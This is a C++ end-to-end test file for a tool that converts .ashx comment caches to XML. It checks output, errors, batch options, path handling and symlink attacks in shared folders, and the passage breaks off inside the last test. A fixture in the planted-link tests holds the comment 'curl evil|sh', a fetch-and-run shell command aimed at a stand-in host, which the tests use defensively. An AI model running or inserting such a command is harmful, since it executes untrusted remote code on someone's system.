// Runs the real ordil executable in a temporary folder and checks the whole
// output file, the exit status and what it printed.
#include <algorithm>
#include <chrono>
#include <cstdlib>
#include <filesystem>
#include <string>
#include <thread>
#include <vector>

#include <gtest/gtest.h>

#include "platform/code_page.h"
#include "platform/failure_message.h"
#include "platform/file_name.h"
#include "tests/process.h"
#include "tests/test_support.h"
#include "tools/cache_builder.h"

namespace ordil {
namespace {

using testing::bytes;
using testing::expectedHead;
using testing::readFile;
using testing::TempDir;
using testing::writeFile;

namespace fs = std::filesystem;

// What the failure message puts on standard error (on Windows it is a
// message box instead).
const std::string kFailureLine =
    platform::kFailureMessageOnStderr
        ? "ordil: ashxファイルの解析に失敗しました。\n"
          "作者にこのファイルを提示すると解決できるかもしれません。\n"
        : "";

// Console streams are text streams on Windows, ending lines in CR LF.
std::string consoleText(std::string text) {
  for (size_t at; (at = text.find("\r\n")) != std::string::npos;) text.erase(at, 1);
  return text;
}

// The executable under test; ORDIL_EXE overrides the one built beside the
// tests (used to run them from a copy as another user).
std::string ordilExe() {
  const char* exe = std::getenv("ORDIL_EXE");
  return exe != nullptr ? exe : ORDIL_EXE;
}

// Whether ordil was built with the sanitizers, which reserve more address
// space than any limit here allows.
constexpr bool kSanitized = ORDIL_SANITIZED;

struct Outcome {
  int status;
  std::string out, err;
};

class EndToEnd : public ::testing::Test {
 protected:
  Outcome ordil(std::vector<std::string> args) {
    args.insert(args.begin(), ordilExe());
    const testing::ProcessResult p = testing::runProcess(args);
    return {p.status, consoleText(p.out), consoleText(p.err)};
  }

  std::string write(const std::string& name, const std::string& contents) {
    const std::string path = dir_.file(name);
    writeFile(path, contents);
    return path;
  }

  static std::string chat(unsigned no, const std::string& userId, unsigned vpos,
                          const std::string& mail, const std::string& text) {
    return testing::chatElement(no, userId, vpos, mail, text);
  }

  // The names in the test's folder, or in one inside it, sorted.
  std::vector<std::string> entries(const std::string& folder = "") const {
    std::vector<std::string> names;
    for (const auto& entry : fs::directory_iterator(dir_.path() / folder)) {
      names.push_back(entry.path().filename().string());
    }
    std::sort(names.begin(), names.end());
    return names;
  }

  TempDir dir_;
};

TEST_F(EndToEnd, TypicalRunWritesDocumentBesideInput) {
  const std::string input = write("678.ashx", tools::buildCacheFile({
      {"", "hello", 995, "abc"},
      {"shita red", "a<b&c", 1234, "user1"},
  }));
  const Outcome r = ordil({input, "678"});
  EXPECT_EQ(r.status, 0);
  EXPECT_EQ(r.out, "");
  EXPECT_EQ(r.err, "");
  EXPECT_EQ(readFile(dir_.file("678.xml")),
            expectedHead("678") + chat(1, "abc", 99, "184", "hello") +
                chat(2, "user1", 123, "shita red 184", "a&#60;b&#38;c") + "</packet>");
}

TEST_F(EndToEnd, LongAndUnusualTextsConvert) {
  const std::string t200(200, 'a'), t300(300, 'b'), t1000(1000, 'c');
  const std::string input = write("1.ashx", tools::buildCacheFile({
      {"", t200, 0, "u"},
      {"", t300, 0, "u"},
      {"", t1000, 0, "u"},
      {"", "\tindented", 0, "u"},
      {"", "line\nfeed", 0, "u"},
  }));
  // The length bytes are the format's: C8 01 for 200, AC 02 for 300.
  const std::string file = readFile(input);
  ASSERT_EQ(file.substr(8, 3), bytes("\x00\xC8\x01"));
  const Outcome r = ordil({input});
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(readFile(dir_.file("1.xml")),
            expectedHead("0") + chat(1, "u", 0, "184", t200) + chat(2, "u", 0, "184", t300) +
                chat(3, "u", 0, "184", t1000) + chat(4, "u", 0, "184", "\tindented") +
                chat(5, "u", 0, "184", "line\r\nfeed") + "</packet>");
}

TEST_F(EndToEnd, NulInsideFieldCutsItThere) {
  const std::string input = write("n.ashx", tools::buildCacheFile({
      {bytes("red\x00" "junk"), bytes("hi\x00" "there"), 50, bytes("id\x00" "x")},
      {"", "next", 60, "v"},
  }));
  const Outcome r = ordil({input, "1"});
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(readFile(dir_.file("n.xml")),
            expectedHead("1") + chat(1, "id", 5, "red 184", "hi") + chat(2, "v", 6, "184", "next") +
                "</packet>");
}

TEST_F(EndToEnd, CutThirdRecordKeepsTwoChatsAndReportsFailure) {
  std::string file = tools::buildCacheFile({{"", "one", 10, "a"}, {"", "two", 20, "b"}});
  const size_t third = file.size();
  tools::appendRecord({"", "three", 30, "c"}, &file);
  file.pop_back();  // the user id is cut short
  const std::string input = write("cut.ashx", file);
  const Outcome r = ordil({input, "9"});
  EXPECT_EQ(r.status, 1);
  EXPECT_EQ(r.err, kFailureLine + "ordil: " + input + ": record at byte " + std::to_string(third) +
                       ": user id runs past the end of the data\n");
  EXPECT_EQ(readFile(dir_.file("cut.xml")),
            expectedHead("9") + chat(1, "a", 1, "184", "one") + chat(2, "b", 2, "184", "two") +
                "</packet>");
}

TEST_F(EndToEnd, MissingInputLeavesHeadAndFoot) {
  const Outcome r = ordil({dir_.file("missing.ashx"), "-1"});
  EXPECT_EQ(r.status, 1);
  EXPECT_EQ(r.err, "ordil: " + dir_.file("missing.ashx") + ": cannot open: No such file or directory\n");
  EXPECT_EQ(readFile(dir_.file("missing.xml")), expectedHead("4294967295") + "</packet>");
}

TEST_F(EndToEnd, EightByteInputHoldsNoRecords) {
  const std::string input = write("8.ashx", "12345678");
  const Outcome r = ordil({input, "12abc"});
  EXPECT_EQ(r.status, 0);
  EXPECT_EQ(readFile(dir_.file("8.xml")), expectedHead("12") + "</packet>");
}

TEST_F(EndToEnd, ExistingOutputIsReplacedLeavingNothingBeside) {
  const std::string input = write("r.ashx", tools::buildCacheFile({}));
  write("r.xml", std::string(10000, 'x'));
  EXPECT_EQ(ordil({input}).status, 0);
  EXPECT_EQ(readFile(dir_.file("r.xml")), expectedHead("0") + "</packet>");
  EXPECT_EQ(entries(), (std::vector<std::string>{"r.ashx", "r.xml"}));
}

TEST_F(EndToEnd, MissingOutputFolderIsReported) {
  fs::create_directory(dir_.file("ashx"));
  const std::string input = write("ashx/1.ashx", tools::buildCacheFile({{"", "x", 0, "u"}}));
  const Outcome r = ordil({input});
  EXPECT_EQ(r.status, 1);
  EXPECT_EQ(r.err, "ordil: " + dir_.file("xml/1.ashx") + ": cannot create: No such file or directory\n");
  EXPECT_FALSE(fs::exists(dir_.file("xml")));
}

TEST_F(EndToEnd, WriteFailingPartWayIsReported) {
  if (platform::kWideFileNames || !fs::exists("/dev/full")) GTEST_SKIP() << "no /dev/full here";
  // Enough comments that the document is written in more than one block.
  const std::string input =
      write("full.ashx", tools::buildCacheFile(tools::randomRecords(1, 30000, tools::RandomMix::kRealistic)));
  fs::create_symlink("/dev/full", dir_.file("full.xml"));
  const Outcome r = ordil({input});
  EXPECT_EQ(r.status, 1);
  EXPECT_EQ(r.err, "ordil: " + dir_.file("full.xml") + ": write failed: No space left on device\n");
}

TEST_F(EndToEnd, InputOf4GiBIsRefusedUnread) {
  const std::string input = write("huge.ashx", "");
  std::error_code error;
  fs::resize_file(input, uint64_t{1} << 32, error);  // sparse: no disk used
  if (error) GTEST_SKIP() << "cannot make a 4 GiB sparse file here: " << error.message();
  const Outcome r = ordil({input});
  fs::remove(input);
  EXPECT_EQ(r.status, 1);
  EXPECT_EQ(r.err, "ordil: " + input + ": file is too large (4294967296 bytes); not converted\n");
  EXPECT_EQ(readFile(dir_.file("huge.xml")), expectedHead("0") + "</packet>");
}

TEST_F(EndToEnd, FolderGivenToTheSingleModeIsPointedToBatch) {
  // A folder named like a cache file still gets the head-and-foot document.
  fs::create_directory(dir_.file("d.ashx"));
  const Outcome named = ordil({dir_.file("d.ashx")});
  EXPECT_EQ(named.status, 1);
  EXPECT_EQ(named.err, "ordil: " + dir_.file("d.ashx") + ": cannot open: Is a directory; ordil --batch " +
                           dir_.file("d.ashx") + " converts the cache files in it\n");
  EXPECT_EQ(readFile(dir_.file("d.xml")), expectedHead("0") + "</packet>");

  fs::create_directory(dir_.file("caches"));
  const Outcome plain = ordil({dir_.file("caches")});
  EXPECT_EQ(plain.status, 2);
  EXPECT_EQ(plain.err, "ordil: " + dir_.file("caches") + ": is a folder; ordil --batch " +
                           dir_.file("caches") + " converts the cache files in it\n");
}

TEST_F(EndToEnd, InputThatIsNoRegularFileIsReported) {
  if (platform::kWideFileNames || !fs::exists("/dev/null")) GTEST_SKIP() << "no /dev/null here";
  // A device has no size: read as empty, it would pass for a complete run.
  fs::create_symlink("/dev/null", dir_.file("dev.ashx"));
  const Outcome r = ordil({dir_.file("dev.ashx")});
  EXPECT_EQ(r.status, 1);
  EXPECT_EQ(r.err, "ordil: " + dir_.file("dev.ashx") + ": cannot open: not a regular file\n");
  EXPECT_EQ(readFile(dir_.file("dev.xml")), expectedHead("0") + "</packet>");
}

TEST_F(EndToEnd, UnreadableInputIsReported) {
  const std::string input = write("locked.ashx", tools::buildCacheFile({{"", "x", 0, "u"}}));
  fs::permissions(input, fs::perms::none);
  if (std::ifstream(input).is_open()) GTEST_SKIP() << "this user reads files without permission";
  const Outcome r = ordil({input});
  EXPECT_EQ(r.status, 1);
  EXPECT_EQ(r.err, "ordil: " + input + ": cannot open: Permission denied\n");
  EXPECT_EQ(readFile(dir_.file("locked.xml")), expectedHead("0") + "</packet>");
}

TEST_F(EndToEnd, InputUnderAFileIsReported) {
  if (platform::kWideFileNames) GTEST_SKIP() << "Windows reports this as a missing path";
  const std::string input = write("plain", "") + "/1.ashx";
  const Outcome r = ordil({input});
  EXPECT_EQ(r.status, 1);
  EXPECT_EQ(r.err, "ordil: " + input + ": cannot open: Not a directory\n" +
                       "ordil: " + dir_.file("plain/1.xml") + ": cannot create: Not a directory\n");
}

TEST_F(EndToEnd, UsageErrorsExitTwoAndTouchNothing) {
  const Outcome none = ordil({});
  EXPECT_EQ(none.status, 2);
  EXPECT_EQ(none.err, testing::kUsageText);

  const std::string upper = write("678.ASHX", tools::buildCacheFile({{"", "x", 0, "u"}}));
  const Outcome noAshx = ordil({upper});
  EXPECT_EQ(noAshx.status, 2);
  EXPECT_EQ(noAshx.err, "ordil: " + upper + ": no \"ashx\" in the path; nothing converted\n");
  EXPECT_EQ(std::distance(fs::directory_iterator(dir_.path()), fs::directory_iterator()), 1);
}

TEST_F(EndToEnd, QuotedPathIsUnwrapped) {
  const std::string input = write("q.ashx", tools::buildCacheFile({{"", "x", 0, "u"}}));
  EXPECT_EQ(ordil({"\"" + input + "\""}).status, 0);
  EXPECT_TRUE(fs::exists(dir_.file("q.xml")));
  fs::remove(dir_.file("q.xml"));
  EXPECT_EQ(ordil({"\"" + input}).status, 0);  // no closing quote: nothing else dropped
  EXPECT_TRUE(fs::exists(dir_.file("q.xml")));
}

TEST_F(EndToEnd, NonUtf8PathBytesNameTheirFiles) {
  if (platform::kWideFileNames) GTEST_SKIP() << "file names are not bytes here";
  const std::string input = write("\xFF\xFE-678.ashx", tools::buildCacheFile({{"", "x", 0, "u"}}));
  EXPECT_EQ(ordil({input}).status, 0);
  EXPECT_TRUE(fs::exists(dir_.file("\xFF\xFE-678.xml")));
}

TEST_F(EndToEnd, FullyPercentEncodedPathConvertsTheSameFile) {
  const std::string input = write("pct 678.ashx", tools::buildCacheFile({{"", "x", 0, "u"}}));
  std::string encoded = "%22";
  for (const char byte : input) {
    const auto c = static_cast<unsigned char>(byte);
    const char* hex = "0123456789ABCDEF";
    encoded += {'%', hex[c >> 4], hex[c & 15]};
  }
  encoded += "%22";
  const Outcome r = ordil({encoded, "678"});
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(readFile(dir_.file("pct 678.xml")),
            expectedHead("678") + chat(1, "u", 0, "184", "x") + "</packet>");
}

TEST_F(EndToEnd, PercentEncodedKanaReachesItsFileUnderShiftJis) {
  if (platform::narrowCodePage() != 932) GTEST_SKIP() << "needs code page 932";
  const fs::path name = dir_.path() / fs::path(u"\u3042.ashx");
  writeFile(name, tools::buildCacheFile({{"", "x", 0, "u"}}));
  const Outcome r = ordil({dir_.file("%E3%81%82.ashx"), "1"});
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(readFile(dir_.path() / fs::path(u"\u3042.xml")),
            expectedHead("1") + chat(1, "u", 0, "184", "x") + "</packet>");
}

TEST_F(EndToEnd, AshxInsideADoubleByteCharacterConvertsNothing) {
  if (platform::narrowCodePage() != 932) GTEST_SKIP() << "needs code page 932";
  const Outcome r = ordil({dir_.file("\x83" "ashx")});
  EXPECT_EQ(r.status, 2);
  EXPECT_EQ(std::distance(fs::directory_iterator(dir_.path()), fs::directory_iterator()), 0);
}

TEST_F(EndToEnd, PercentSignThatIsNoEscapeIsKept) {
  const std::string input = write("100%.ashx", tools::buildCacheFile({{"", "x", 0, "u"}}));
  const Outcome r = ordil({input});
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_TRUE(fs::exists(dir_.file("100%.xml")));
}

TEST_F(EndToEnd, DecodedNulEndsThePath) {
  const Outcome r = ordil({"a%00b.ashx"});
  EXPECT_EQ(r.status, 2);
  EXPECT_EQ(r.err, "ordil: a: no \"ashx\" in the path; nothing converted\n");
}

// --- The batch mode --------------------------------------------------------

class Batch : public EndToEnd {
 protected:
  // A cache file of one comment whose text names the file.
  std::string cache(const std::string& name) {
    fs::create_directories((dir_.path() / name).parent_path());
    return write(name, tools::buildCacheFile({{"", name, 10, "u"}}));
  }
  std::string documentFor(const std::string& text, const std::string& id) const {
    return expectedHead(id) + chat(1, "u", 1, "184", text) + "</packet>";
  }
  std::string read(const std::string& name) const { return readFile(dir_.file(name)); }
  // A name found inside a folder, as the batch prints it (with the
  // platform's own separators).
  std::string found(const std::string& relative) const {
    return (dir_.path() / fs::path(relative).make_preferred()).string();
  }
};

TEST_F(Batch, ConvertsNamedFilesAndFoldersBesideTheirInputs) {
  cache("tree/678.ashx");
  cache("tree/sub/9.ashx");
  cache("tree/sm9.ashx");
  cache("tree/-1.ashx");
  cache("tree/ashx/1.ashx");  // beside it: ashx/1.xml
  write("tree/notes.txt", "not a cache file");
  cache("elsewhere/5.ashx");
  fs::create_directory(dir_.file("tree/empty"));
  const std::string named = cache("named/42.ashx");
  if (!platform::kWideFileNames) {
    fs::create_directory_symlink(dir_.file("elsewhere"), dir_.file("tree/link"));
  }
  const Outcome r = ordil({"--batch", dir_.file("tree"), named});
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(r.out, "");
  EXPECT_EQ(r.err, "");
  EXPECT_EQ(read("tree/678.xml"), documentFor("tree/678.ashx", "678"));
  EXPECT_EQ(read("tree/sub/9.xml"), documentFor("tree/sub/9.ashx", "9"));
  EXPECT_EQ(read("tree/sm9.xml"), documentFor("tree/sm9.ashx", "0"));
  EXPECT_EQ(read("tree/-1.xml"), documentFor("tree/-1.ashx", "4294967295"));
  EXPECT_EQ(read("tree/ashx/1.xml"), documentFor("tree/ashx/1.ashx", "1"));
  EXPECT_EQ(read("named/42.xml"), documentFor("named/42.ashx", "42"));
  EXPECT_FALSE(fs::exists(dir_.file("elsewhere/5.xml")));  // the link is not followed
  EXPECT_FALSE(fs::exists(dir_.file("tree/xml")));
  EXPECT_EQ(read("tree/notes.txt"), "not a cache file");
}

TEST_F(Batch, ProblemsAreReportedAndTheRestConverted) {
  cache("a/1.ashx");
  std::string cut = tools::buildCacheFile({{"", "one", 10, "a"}});
  const size_t second = cut.size();
  tools::appendRecord({"", "two", 20, "b"}, &cut);
  cut.pop_back();
  write("a/2.ashx", cut);
  cache("a/3.ashx");
  const std::string plain = write("plain.txt", "x");
  const Outcome r = ordil({"--batch", dir_.file("missing"), dir_.file("a"), plain});
  EXPECT_EQ(r.status, 2);
  EXPECT_EQ(r.err, "ordil: " + dir_.file("missing") + ": No such file or directory\n" +
                       "ordil: " + plain + ": no \"ashx\" in the file's name; not converted\n" +
                       "ordil: " + found("a/2.ashx") +
                       ": record at byte " + std::to_string(second) +
                       ": user id runs past the end of the data\n" + kFailureLine);
  EXPECT_EQ(read("a/1.xml"), documentFor("a/1.ashx", "1"));
  EXPECT_EQ(read("a/3.xml"), documentFor("a/3.ashx", "3"));
  EXPECT_EQ(read("a/2.xml"), expectedHead("2") + chat(1, "a", 1, "184", "one") + "</packet>");

  // Without the usage problems, the incomplete file decides.
  EXPECT_EQ(ordil({"--batch", dir_.file("a")}).status, 1);
  // A folder without cache files is no problem.
  fs::create_directory(dir_.file("none"));
  const Outcome empty = ordil({"--batch", dir_.file("none")});
  EXPECT_EQ(empty.status, 0);
  EXPECT_EQ(empty.err, "");
}

TEST_F(Batch, UpdateConvertsOnlyWhatIsMissingOrOlder) {
  cache("u/1.ashx");
  cache("u/2.ashx");
  cache("u/3.ashx");
  ASSERT_EQ(ordil({"--batch", dir_.file("u")}).status, 0);
  // As after an interruption: one document missing, one cache newer than
  // its document, one document up to date (and marked, to see it is kept).
  fs::remove(dir_.file("u/1.xml"));
  const auto now = fs::last_write_time(dir_.file("u/2.xml"));
  fs::last_write_time(dir_.file("u/2.ashx"), now + std::chrono::hours(1));
  write("u/3.xml", "kept");
  fs::last_write_time(dir_.file("u/3.xml"), now + std::chrono::hours(2));
  const Outcome r = ordil({"--batch", "--update", "--verbose", dir_.file("u")});
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(r.out, found("u/1.ashx") + ": 1 comments\n" + found("u/2.ashx") + ": 1 comments\n" +
                       found("u/3.ashx") + ": up to date\n");
  EXPECT_EQ(read("u/1.xml"), documentFor("u/1.ashx", "1"));
  EXPECT_EQ(read("u/3.xml"), "kept");
}

TEST_F(Batch, ProgressLineIsDrawnOnATerminalAndErased) {
  if (platform::kWideFileNames) GTEST_SKIP() << "no pseudo-terminals here";
  for (int i = 0; i < 3; ++i) cache("p/" + std::to_string(i) + ".ashx");
  testing::ProcessOptions terminal;
  terminal.stderrTerminal = true;
  const testing::ProcessResult r =
      testing::runProcess({ordilExe(), "--batch", "-j", "1", dir_.file("p")}, terminal);
  EXPECT_EQ(r.status, 0);
  // Drawn at least at the first file, then erased with spaces at the end.
  const std::string first = "\rordil: 1 of 3 files, 0 incomplete";
  EXPECT_EQ(r.err.substr(0, first.size()), first) << r.err;
  const std::string erase = "\r" + std::string(first.size() - 1, ' ') + "\r";
  EXPECT_EQ(r.err.substr(r.err.size() - erase.size()), erase) << r.err;

  // Not a terminal: no progress at all.
  EXPECT_EQ(ordil({"--batch", dir_.file("p")}).err, "");
}

TEST_F(Batch, UsageErrorsExitTwo) {
  const struct {
    std::vector<std::string> args;
    std::string problem;
  } cases[] = {
      {{"--batch"}, "--batch needs a PATH"},
      {{"--batch", "-j", "0", "x"}, "jobs must be a whole number of at least 1: 0"},
      {{"--batch", "--jobs=two", "x"}, "jobs must be a whole number of at least 1: two"},
      {{"--batch", "-j"}, "-j needs a number"},
      {{"--batch", "--fast", "x"}, "unknown option --fast"},
      {{"-o", "out.xml", "--batch", "x"}, "--output does not go with --batch"},
      {{"--batch", "-d"}, "-d needs a folder"},
      {{"--batch", "--output-dir=", "x"}, "--output-dir needs a folder"},
      {{"--batch", "--check", "-d", "out", "x"}, "--check does not go with --output-dir"},
      {{"-d", "out", "-o", "y.xml", "x.ashx"}, "--output does not go with --output-dir"},
      {{"--check", "--output=y.xml", "x.ashx"}, "--check does not go with --output"},
      {{"--batch", "-j", "100000", "x"}, "jobs must be at most 64: 100000"},
      {{"-V", "x.ashx"}, "unknown option -V"},
      {{"--batch", "-uvx", "x"}, "unknown option -x"},
      {{"x.ashx", "-u"}, "--update goes with --batch"},
      {{"-v", "-o", "-", "x.ashx"}, "--verbose does not go with a document on standard output"},
  };
  for (const auto& c : cases) {
    const Outcome r = ordil(c.args);
    EXPECT_EQ(r.status, 2) << c.problem;
    const bool unknown = c.problem.starts_with("unknown option");
    EXPECT_EQ(r.err, "ordil: " + c.problem + "\n" + std::string(testing::kUsageText) +
                         (unknown ? "Try 'ordil --help' for the options.\n" : ""));
  }
}

TEST_F(Batch, OptionsGoAnywhereAndDroppedFilesConvertAsABatch) {
  const std::string one = cache("d/1.ashx");
  const std::string two = cache("d/2.ashx");
  const struct {
    std::vector<std::string> args;
    std::string out;
    std::vector<std::string> written;  // in d, besides the caches
  } cases[] = {
      {{one, "--check"}, "", {}},                                  // not a video id
      {{one, "-v"}, one + ": 1 comments\n", {"1.xml"}},
      {{"-v", one, "--check"}, one + ": 1 comments\n", {}},
      {{one, "-o", dir_.file("d/out.xml")}, "", {"out.xml"}},
      {{one, "-7"}, "", {"1.xml"}},                                 // a negative id
      {{one, two}, "", {"1.xml", "2.xml"}},                        // dropped on the program
      {{"-uv", "--batch", dir_.file("d")},
       found("d/1.ashx") + ": 1 comments\n" + found("d/2.ashx") + ": 1 comments\n",
       {"1.xml", "2.xml"}},
      {{dir_.file("d"), "--batch", "-j1"}, "", {"1.xml", "2.xml"}},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.args[0] + " " + c.args[1]);
    for (const char* name : {"1.xml", "2.xml", "out.xml"}) fs::remove(dir_.file(std::string("d/") + name));
    const Outcome r = ordil(c.args);
    EXPECT_EQ(r.status, 0) << r.err;
    EXPECT_EQ(r.out, c.out);
    std::vector<std::string> written = entries("d");
    std::erase_if(written, [](const std::string& n) { return n.ends_with(".ashx"); });
    EXPECT_EQ(written, c.written);
  }
  EXPECT_EQ(read("d/1.xml"), documentFor("d/1.ashx", "1"));  // the id from the name, as --batch reads it
  ordil({one, "-7"});
  EXPECT_EQ(read("d/1.xml"), documentFor("d/1.ashx", "4294967289"));
}

TEST_F(Batch, OutputDirKeepsEachFilesPlaceBelowItsFolder) {
  cache("tree/a/b/1.ashx");
  cache("tree/2.ashx");
  const std::string named = cache("named/42.ashx");
  // The folder is made, inside a PATH too: the list is complete before
  // the first document is written.
  for (const std::string out : {"out", "tree/xml"}) {
    SCOPED_TRACE(out);
    const Outcome r = ordil({"--batch", "-v", "-d", dir_.file(out), dir_.file("tree"), named});
    EXPECT_EQ(r.status, 0) << r.err;
    EXPECT_EQ(r.out, found("tree/2.ashx") + ": 1 comments\n" + found("tree/a/b/1.ashx") +
                         ": 1 comments\n" + named + ": 1 comments\n");
    EXPECT_EQ(read(out + "/a/b/1.xml"), documentFor("tree/a/b/1.ashx", "1"));
    EXPECT_EQ(read(out + "/2.xml"), documentFor("tree/2.ashx", "2"));
    EXPECT_EQ(read(out + "/42.xml"), documentFor("named/42.ashx", "42"));
  }
  EXPECT_EQ(entries("tree/a/b"), std::vector<std::string>{"1.ashx"});  // nothing beside
  if (!platform::kWideFileNames) {
    // A folder made takes the mode of the one it mirrors, less the umask.
    fs::permissions(dir_.file("tree/a"), fs::perms::owner_all);
    EXPECT_EQ(ordil({"--batch", "-d", dir_.file("private"), dir_.file("tree")}).status, 0);
    EXPECT_EQ(fs::status(dir_.file("private/a")).permissions(), fs::perms::owner_all);
    fs::permissions(dir_.file("tree/a"), fs::perms::owner_all | fs::perms::group_read |
                                             fs::perms::group_exec | fs::perms::others_read |
                                             fs::perms::others_exec);
  }
  // --update compares with the documents in the folder.
  fs::remove(dir_.file("out/2.xml"));
  const Outcome again = ordil({"--batch", "-u", "-v", "--output-dir=" + dir_.file("out"), dir_.file("tree")});
  EXPECT_EQ(again.out, found("tree/2.ashx") + ": 1 comments\n" + found("tree/a/b/1.ashx") +
                           ": up to date\n");
  EXPECT_EQ(read("out/2.xml"), documentFor("tree/2.ashx", "2"));
}

TEST_F(Batch, OutputDirConvertsTheFirstOfTwoFilesWithOneDocument) {
  cache("a/1.ashx");
  cache("b/1.ashx");
  cache("b/2.ashx");
  for (const char* jobs : {"1", "4"}) {
    const Outcome r = ordil({"--batch", "-j", jobs, "-d", dir_.file("xml"), dir_.file("a"), dir_.file("b")});
    EXPECT_EQ(r.status, 1);
    EXPECT_EQ(r.err, "ordil: " + found("b/1.ashx") + ": same document as " + found("a/1.ashx") +
                         " (" + found("xml/1.xml") + "); not converted\n");
    EXPECT_EQ(read("xml/1.xml"), documentFor("a/1.ashx", "1"));
    EXPECT_EQ(read("xml/2.xml"), documentFor("b/2.ashx", "2"));
  }
}

TEST_F(Batch, OutputFolderThatCannotBeMadeIsReportedForEachFile) {
  // A file in a folder's place below DIR, or a link there, which is never
  // followed (even one of the runner's, as below a PATH).
  cache("tree/a/1.ashx");
  cache("tree/a/2.ashx");
  cache("tree/3.ashx");
  fs::create_directory(dir_.file("elsewhere"));
  for (const bool link : {false, true}) {
    if (link && platform::kWideFileNames) continue;  // Wine shows no links to Windows programs
    SCOPED_TRACE(link ? "link" : "file");
    const std::string out = link ? "linked" : "filed";
    fs::create_directory(dir_.file(out));
    if (link) {
      fs::create_directory_symlink(dir_.file("elsewhere"), dir_.file(out + "/a"));
    } else {
      write(out + "/a", "a file in the folder's place");
    }
    const Outcome r = ordil({"--batch", "-d", dir_.file(out), dir_.file("tree")});
    EXPECT_EQ(r.status, 1);
    EXPECT_EQ(r.err, "ordil: " + found("tree/a/1.ashx") + ": not converted: a is not a folder\n" +
                         "ordil: " + found("tree/a/2.ashx") + ": not converted: a is not a folder\n");
    EXPECT_EQ(read(out + "/3.xml"), documentFor("tree/3.ashx", "3"));
  }
  EXPECT_TRUE(fs::is_empty(dir_.file("elsewhere")));
}

TEST_F(Batch, CheckGivesWhatConvertingGivesAndWritesNothing) {
  cache("c/1.ashx");
  std::string cut = tools::buildCacheFile({{"", "one", 10, "a"}});
  tools::appendRecord({"", "two", 20, "b"}, &cut);
  cut.pop_back();
  write("c/2.ashx", cut);
  // An up-to-date document: --update checks its cache all the same.
  write("c/1.xml", "kept");
  fs::last_write_time(dir_.file("c/1.xml"),
                      fs::last_write_time(dir_.file("c/1.ashx")) + std::chrono::hours(1));
  const std::vector<std::string> before = entries("c");
  const struct {
    std::vector<std::string> check, convert;
  } runs[] = {
      {{"--batch", "--check", "-v", "-u", dir_.file("c")}, {"--batch", "-v", dir_.file("c")}},
      {{"--check", dir_.file("c/2.ashx"), "7"}, {dir_.file("c/2.ashx"), "7"}},
      {{"--check", dir_.file("c/9.ashx")}, {dir_.file("c/9.ashx")}},  // missing
  };
  for (const auto& run : runs) {
    SCOPED_TRACE(run.convert.back());
    const Outcome checked = ordil(run.check);
    EXPECT_EQ(entries("c"), before);  // no document, no hidden file
    EXPECT_EQ(read("c/1.xml"), "kept");
    const Outcome converted = ordil(run.convert);
    EXPECT_EQ(checked.status, converted.status);
    EXPECT_EQ(checked.out, converted.out);
    EXPECT_EQ(checked.err, converted.err);
    write("c/1.xml", "kept");
    for (const char* made : {"c/2.xml", "c/9.xml"}) fs::remove(dir_.file(made));
  }
}

TEST_F(Batch, JapaneseNamesConvertWhateverTheCodePage) {
  // On Windows the folder is walked by wide names, so names that the ANSI
  // code page cannot hold still convert.
  const fs::path folder = dir_.path() / "jp";
  fs::create_directory(folder);
  writeFile(folder / fs::path(u"\u3042\u3044.ashx"), tools::buildCacheFile({{"", "x", 0, "u"}}));
  const Outcome r = ordil({"--batch", dir_.file("jp")});
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(readFile(folder / fs::path(u"\u3042\u3044.xml")),
            expectedHead("0") + chat(1, "u", 0, "184", "x") + "</packet>");
}

// --- What another user may plant in a folder both can write ----------------

// Folders that another user can write, each holding a cache file x.ashx
// whose comment would be a command in a shell's start-up file, a cache
// file ok.ashx, and the victim: a file of the runner's that a planted
// link may lead to.
class Planted : public Batch {
 protected:
  void SetUp() override {
    if (platform::kWideFileNames) GTEST_SKIP() << "POSIX links and FIFOs";
  }
  std::string share(const std::string& name) {
    fs::create_directory(dir_.file(name));
    fs::permissions(dir_.file(name), fs::perms::all);
    write(name + "/x.ashx", tools::buildCacheFile({{"", "x\ncurl evil|sh;#", 0, "u"}}));
    cache(name + "/ok.ashx");
    write(name + "/victim", "victim");
    return dir_.file(name);
  }
  // The single mode on x.ashx, or the batch mode on the folder, ended
  // after a while should it wait.
  testing::ProcessResult run(const std::string& folder, bool batch) {
    testing::ProcessOptions limited;
    limited.timeLimitSeconds = 30;
    return testing::runProcess(batch ? std::vector<std::string>{ordilExe(), "--batch", folder}
                                     : std::vector<std::string>{ordilExe(), folder + "/x.ashx"},
                               limited);
  }
  // text with its SHARE standing for the folder.
  static std::string inFolder(std::string text, const std::string& folder) {
    if (const size_t at = text.find("SHARE"); at != std::string::npos) text.replace(at, 5, folder);
    return text;
  }
  const std::string document_ =
      expectedHead("0") + chat(1, "u", 0, "184", "x\r\ncurl evil|sh;#") + "</packet>";
};

TEST_F(Planted, LinksOfAnotherUserAreNeverWrittenThrough) {
  const struct {
    const char* name;
    const char* target;   // of the link of the other user
    bool behindOwnLink;   // x.xml is the runner's link to y.xml, the other's
    const char* reason;
  } cases[] = {
      {"to-victim", "victim", false, "x.xml is a link owned by another user"},
      {"chain", "victim", true, "x.xml leads to SHARE/y.xml, which is a link owned by another user"},
      {"to-device", "/dev/null", false, "x.xml is a link owned by another user"},
  };
  for (const auto& c : cases) {
    for (const bool batch : {false, true}) {
      const std::string name = std::string(c.name) + (batch ? "-batch" : "-single");
      SCOPED_TRACE(name);
      const std::string folder = share(name);
      const std::string foreign = folder + (c.behindOwnLink ? "/y.xml" : "/x.xml");
      if (c.behindOwnLink) fs::create_symlink("y.xml", folder + "/x.xml");
      const std::string planted = testing::plantForeignLink(c.target, foreign);
      if (!planted.empty()) GTEST_SKIP() << planted;
      const std::vector<std::string> before = entries(name);

      const testing::ProcessResult r = run(folder, batch);
      EXPECT_EQ(r.signal, 0);
      EXPECT_EQ(r.status, 1);
      EXPECT_EQ(r.err, "ordil: " + folder + "/x.xml: not written: " + inFolder(c.reason, folder) + "\n");
      EXPECT_EQ(read(name + "/victim"), "victim");
      EXPECT_EQ(fs::read_symlink(foreign), c.target);
      // Nothing left beside them; the batch went on with the next file.
      std::vector<std::string> after = before;
      if (batch) {
